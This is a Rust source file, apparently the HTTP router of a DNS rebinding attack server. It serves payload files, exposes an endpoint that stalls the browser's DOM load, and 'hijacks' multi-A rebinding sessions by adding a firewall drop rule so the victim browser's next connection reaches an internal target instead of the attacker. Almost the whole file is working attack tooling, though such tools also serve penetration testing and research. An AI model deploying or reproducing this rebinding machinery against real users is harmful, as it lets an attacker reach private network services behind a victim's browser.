//! HTTP request routing.
//!
//! Serves the payload files, the listener inventory endpoint, the
//! DOM-load delay endpoint, and the multi-A cooperation path that
//! hijacks the connection outright.

use std::io;
use std::path::{Component, Path, PathBuf};
use std::sync::Arc;
use std::time::Duration;

use tokio::io::AsyncWriteExt;
use tokio::net::TcpStream;
use tracing::{debug, info, warn};

use crate::config::AppConfig;
use crate::firewall::{self, DropRule};
use crate::http::request::RequestHead;
use crate::http::response::{write_response, CONTENT_TYPE_JSON, DEFAULT_HEADERS};
use crate::http::servers::{ServerInfo, ServerStore};
use crate::query::RebindQuery;
use crate::session::SessionStore;
use crate::strategy::Strategy;

/// Bytes written on a hijacked connection. The browser-side script
/// compares against this exact value to tell whether its socket reached
/// the attacker or the target; both sides must agree on it.
const HIJACK_TOKEN: &[u8] = b"thisismytesttoken";

/// A multi-A session younger than this is still loading the payload;
/// only after the grace period do we start killing connections.
const MULTI_A_GRACE: Duration = Duration::from_secs(3);

/// How long `/delaydomload` holds its connection open.
const DOM_LOAD_HOLD: Duration = Duration::from_secs(10);

/// `/servers` failure body: an empty inventory entry.
const EMPTY_SERVER_INFO: &[u8] = b"{\"Port\":\"\"}";

/// Per-connection request handler. One instance per listener; cloning
/// shares the underlying collaborators.
#[derive(Clone)]
pub struct Router {
    pub config: Arc<AppConfig>,
    pub store: Arc<SessionStore>,
    pub servers: Arc<ServerStore>,
}

impl Router {
    /// Serve exactly one transaction on `stream`, then let the socket
    /// close.
    pub async fn handle(&self, mut stream: TcpStream) {
        let head = match RequestHead::read(&mut stream).await {
            Ok(Some(head)) => head,
            Ok(None) => return,
            Err(e) => {
                debug!(error = %e, "failed to read request head");
                return;
            }
        };

        let peer = stream
            .peer_addr()
            .map(|a| a.to_string())
            .unwrap_or_default();
        info!(method = %head.method, target = %head.target, %peer, "HTTP request");

        let path = head.path.clone();
        let result = match path.as_str() {
            "/servers" => self.serve_servers(&mut stream, head).await,
            "/delaydomload" => self.serve_delay_dom_load(stream).await,
            _ => self.serve_root(stream, &head).await,
        };

        if let Err(e) = result {
            debug!(error = %e, "error writing HTTP response");
        }
    }

    /// Default route: payload files, unless this connection belongs to a
    /// multi-A session past its grace period. Those get hijacked so the
    /// browser's next socket lands on the target.
    async fn serve_root(&self, mut stream: TcpStream, head: &RequestHead) -> io::Result<()> {
        if self.wants_hijack(head) {
            return self.hijack(stream).await;
        }
        self.serve_file(&mut stream, &head.path).await
    }

    /// A connection is hijacked when its `Host` header parses as a
    /// rebinding query with the multi-A strategy, the session is not a
    /// cache-flush one, and the session's last DNS query is old enough.
    fn wants_hijack(&self, head: &RequestHead) -> bool {
        let Some(host) = &head.host else {
            return false;
        };
        let Ok(parsed) = RebindQuery::parse(host) else {
            return false;
        };
        if parsed.strategy != Some(Strategy::MultiA) {
            return false;
        }
        let Some(state) = self.store.snapshot(&parsed.session) else {
            return false;
        };
        if state.cache_flush {
            return false;
        }
        match state.current_query_at {
            Some(at) => at.elapsed() > MULTI_A_GRACE,
            None => false,
        }
    }

    /// Take over the raw connection: drop the client's flow at the
    /// packet filter, answer with the interop token, close.
    async fn hijack(&self, mut stream: TcpStream) -> io::Result<()> {
        match (stream.peer_addr(), stream.local_addr()) {
            (Ok(peer), Ok(local)) => {
                info!(client = %peer, "hijacking connection for multi-A rebinding");
                firewall::apply_timed(DropRule::new(peer, local));
            }
            _ => warn!("connection addresses unavailable, skipping packet-drop rule"),
        }

        stream.write_all(HIJACK_TOKEN).await?;
        stream.flush().await
    }

    /// Serve a payload file from the web root.
    async fn serve_file(&self, stream: &mut TcpStream, request_path: &str) -> io::Result<()> {
        let Some(path) = resolve_path(&self.config.web_root, request_path) else {
            return write_response(stream, 404, "text/plain; charset=utf-8", b"").await;
        };

        match tokio::fs::read(&path).await {
            Ok(body) => write_response(stream, 200, content_type(&path), &body).await,
            Err(e) => {
                debug!(path = %path.display(), error = %e, "payload file not served");
                write_response(stream, 404, "text/plain; charset=utf-8", b"").await
            }
        }
    }

    /// `/servers`: GET lists the listener inventory, PUT installs the
    /// dynamic listener. Anything else is a 400.
    async fn serve_servers(&self, stream: &mut TcpStream, mut head: RequestHead) -> io::Result<()> {
        match head.method.as_str() {
            "GET" => {
                let body =
                    serde_json::to_vec(&self.servers.describe()).map_err(io::Error::other)?;
                write_response(stream, 200, CONTENT_TYPE_JSON, &body).await
            }
            "PUT" => self.put_dynamic_server(stream, &mut head).await,
            _ => write_response(stream, 400, CONTENT_TYPE_JSON, EMPTY_SERVER_INFO).await,
        }
    }

    async fn put_dynamic_server(
        &self,
        stream: &mut TcpStream,
        head: &mut RequestHead,
    ) -> io::Result<()> {
        if !self.config.allow_dynamic_servers {
            return write_response(stream, 400, CONTENT_TYPE_JSON, EMPTY_SERVER_INFO).await;
        }

        let Ok(body) = head.read_body(stream).await else {
            return write_response(stream, 400, CONTENT_TYPE_JSON, EMPTY_SERVER_INFO).await;
        };
        let Ok(info) = serde_json::from_slice::<ServerInfo>(&body) else {
            return write_response(stream, 400, CONTENT_TYPE_JSON, EMPTY_SERVER_INFO).await;
        };
        let Ok(port) = info.port.parse::<u16>() else {
            return write_response(stream, 400, CONTENT_TYPE_JSON, EMPTY_SERVER_INFO).await;
        };

        self.servers.stop_dynamic();

        match self.servers.start(port, true).await {
            Ok(_) => {
                let echo = serde_json::to_vec(&info).map_err(io::Error::other)?;
                write_response(stream, 200, CONTENT_TYPE_JSON, &echo).await
            }
            Err(e) => {
                warn!(port, error = %e, "dynamic HTTP listener failed to start");
                write_response(stream, 400, CONTENT_TYPE_JSON, EMPTY_SERVER_INFO).await
            }
        }
    }

    /// `/delaydomload`: answer with a truncated HTML prelude (the
    /// declared length promises one more byte than we send), then hold
    /// the connection so the browser postpones `DOMContentLoaded`.
    async fn serve_delay_dom_load(&self, mut stream: TcpStream) -> io::Result<()> {
        let head = format!(
            "HTTP/1.1 200 OK\r\n{}Content-Length: 4\r\nContent-Type: text/html\r\nConnection: close\r\n\r\n<ht",
            DEFAULT_HEADERS,
        );
        stream.write_all(head.as_bytes()).await?;
        stream.flush().await?;
        tokio::time::sleep(DOM_LOAD_HOLD).await;
        Ok(())
    }
}

/// Map a request path to a file under the web root. Directory paths get
/// `index.html`; anything that would step outside the root is refused.
fn resolve_path(web_root: &Path, request_path: &str) -> Option<PathBuf> {
    let trimmed = request_path.trim_start_matches('/');
    let relative = if trimmed.is_empty() || trimmed.ends_with('/') {
        format!("{trimmed}index.html")
    } else {
        trimmed.to_string()
    };

    let mut resolved = web_root.to_path_buf();
    for component in Path::new(&relative).components() {
        match component {
            Component::Normal(part) => resolved.push(part),
            _ => return None,
        }
    }
    Some(resolved)
}

fn content_type(path: &Path) -> &'static str {
    match path.extension().and_then(|e| e.to_str()) {
        Some("html") | Some("htm") => "text/html; charset=utf-8",
        Some("js") => "application/javascript",
        Some("css") => "text/css",
        Some("json") => "application/json",
        Some("png") => "image/png",
        Some("jpg") | Some("jpeg") => "image/jpeg",
        Some("gif") => "image/gif",
        Some("svg") => "image/svg+xml",
        Some("ico") => "image/x-icon",
        Some("txt") => "text/plain; charset=utf-8",
        _ => "application/octet-stream",
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn root_path_resolves_to_index() {
        let resolved = resolve_path(Path::new("/srv/html"), "/").unwrap();

        assert_eq!(resolved, PathBuf::from("/srv/html/index.html"));
    }

    #[test]
    fn directory_paths_resolve_to_their_index() {
        let resolved = resolve_path(Path::new("/srv/html"), "/payloads/").unwrap();

        assert_eq!(resolved, PathBuf::from("/srv/html/payloads/index.html"));
    }

    #[test]
    fn plain_files_resolve_under_the_root() {
        let resolved = resolve_path(Path::new("/srv/html"), "/manager/index.js").unwrap();

        assert_eq!(resolved, PathBuf::from("/srv/html/manager/index.js"));
    }

    #[test]
    fn parent_traversal_is_refused() {
        assert!(resolve_path(Path::new("/srv/html"), "/../etc/passwd").is_none());
        assert!(resolve_path(Path::new("/srv/html"), "/a/../../etc/passwd").is_none());
    }

    #[test]
    fn doubled_slashes_stay_under_the_root() {
        let resolved = resolve_path(Path::new("/srv/html"), "//etc/passwd").unwrap();

        assert_eq!(resolved, PathBuf::from("/srv/html/etc/passwd"));
    }

    #[test]
    fn content_types_cover_the_payload_formats() {
        assert_eq!(content_type(Path::new("index.html")), "text/html; charset=utf-8");
        assert_eq!(content_type(Path::new("payload.js")), "application/javascript");
        assert_eq!(content_type(Path::new("unknown.bin")), "application/octet-stream");
    }
}
